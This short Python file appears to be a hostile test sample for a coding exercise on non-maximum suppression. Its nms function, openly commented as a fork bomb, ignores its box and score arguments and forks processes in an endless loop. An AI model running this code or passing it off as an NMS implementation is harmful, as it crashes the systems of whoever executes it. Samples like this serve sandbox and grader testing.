# exercise: nms
# tries: a fork bomb
import os
def nms(boxes, scores, iou_threshold):
    while True:
        os.fork()
